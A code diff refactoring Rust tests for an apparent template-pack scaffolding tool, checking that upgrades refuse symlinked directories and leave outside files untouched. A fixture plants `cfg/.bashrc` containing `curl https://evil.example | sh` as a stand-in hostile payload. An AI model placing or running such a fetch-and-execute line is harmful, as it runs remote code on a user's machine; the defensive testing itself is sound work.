@@ -74,26 +74,45 @@ fn sync_promote_and_deploy_refuse_a_symlinked_directory_and_touch_nothing_outsid
 /// A git pack with v1.0.0 and v1.1.0; v1.1.0 adds `cfg/.bashrc` (an app-controlled
 /// `template.source` could point at such a pack) and edits `docs/guide.md`.
 fn git_pack(dir: &Path) -> PathBuf {
-    let pack = dir.join("pack");
-    write(&pack, "pack.yaml", b"name: hostile\nversion: 1.0.0\n");
+    two_releases(
+        &dir.join("pack"),
+        "hostile",
+        &[
+            ("README.md", b"readme v1\n"),
+            ("docs/guide.md", b"guide v1\n"),
+            ("cfg/settings.txt", b"settings v1\n"),
+        ],
+        &[
+            ("README.md", b"readme v2\n"),
+            ("docs/guide.md", b"guide v2\n"),
+            ("cfg/settings.txt", b"settings v2\n"),
+            ("cfg/.bashrc", b"curl https://evil.example | sh\n"),
+        ],
+    )
+}
+
+/// A git pack `name` at `pack` whose one template, `svc-node` (a node dashboard), holds `v1` at
+/// v1.0.0, and `v2` written over it at v1.1.0.
+fn two_releases(pack: &Path, name: &str, v1: &[(&str, &[u8])], v2: &[(&str, &[u8])]) -> PathBuf {
+    let meta = |version: &str| format!("name: {name}\nversion: {version}\n");
+    write(pack, "pack.yaml", meta("1.0.0").as_bytes());
     write(
-        &pack,
+        pack,
         "svc-node/template.yaml",
-        b"kind: dashboard\nstack: node\ndescription: hostile\n",
+        format!("kind: dashboard\nstack: node\ndescription: {name}\n").as_bytes(),
     );
-    let f = |rel: &str, bytes: &[u8]| write(&pack, &format!("svc-node/files/{rel}"), bytes);
-    f("README.md", b"readme v1\n");
-    f("docs/guide.md", b"guide v1\n");
-    f("cfg/settings.txt", b"settings v1\n");
-    common::git(&pack, &["init", "-q"]);
-    common::release(&pack, "v1.0.0");
-    write(&pack, "pack.yaml", b"name: hostile\nversion: 1.1.0\n");
-    f("README.md", b"readme v2\n");
-    f("docs/guide.md", b"guide v2\n");
-    f("cfg/settings.txt", b"settings v2\n");
-    f("cfg/.bashrc", b"curl https://evil.example | sh\n");
-    common::release(&pack, "v1.1.0");
-    pack
+    let files = |set: &[(&str, &[u8])]| {
+        for (rel, bytes) in set {
+            write(pack, &format!("svc-node/files/{rel}"), bytes);
+        }
+    };
+    files(v1);
+    common::git(pack, &["init", "-q"]);
+    common::release(pack, "v1.0.0");
+    write(pack, "pack.yaml", meta("1.1.0").as_bytes());
+    files(v2);
+    common::release(pack, "v1.1.0");
+    pack.to_path_buf()
 }
 
 fn scaffold_from(cx: &TestContext, dir: &Path, pack: &Path, name: &str) -> PathBuf {
@@ -188,21 +207,15 @@ fn a_fleet_upgrade_refuses_each_symlinked_app_by_name_and_upgrades_the_rest() {
 #[test]
 fn a_symlink_where_the_template_did_not_change_is_left_alone_and_not_followed() {
     let tmp = TestContext::new();
-    let pack = tmp.path().join("pack");
-    write(&pack, "pack.yaml", b"name: steady\nversion: 1.0.0\n");
-    write(
-        &pack,
-        "svc-node/template.yaml",
-        b"kind: dashboard\nstack: node\ndescription: steady\n",
+    let pack = two_releases(
+        &tmp.path().join("pack"),
+        "steady",
+        &[
+            ("README.md", b"readme v1\n"),
+            ("notes/keep.md", b"the same in both versions\n"),
+        ],
+        &[("README.md", b"readme v2\n")],
     );
-    let f = |rel: &str, bytes: &[u8]| write(&pack, &format!("svc-node/files/{rel}"), bytes);
-    f("README.md", b"readme v1\n");
-    f("notes/keep.md", b"the same in both versions\n");
-    common::git(&pack, &["init", "-q"]);
-    common::release(&pack, "v1.0.0");
-    write(&pack, "pack.yaml", b"name: steady\nversion: 1.1.0\n");
-    f("README.md", b"readme v2\n");
-    common::release(&pack, "v1.1.0");
 
     let secret = tmp.path().join("secret.txt");
     std::fs::write(&secret, "s3cr3t\n").expect("write");
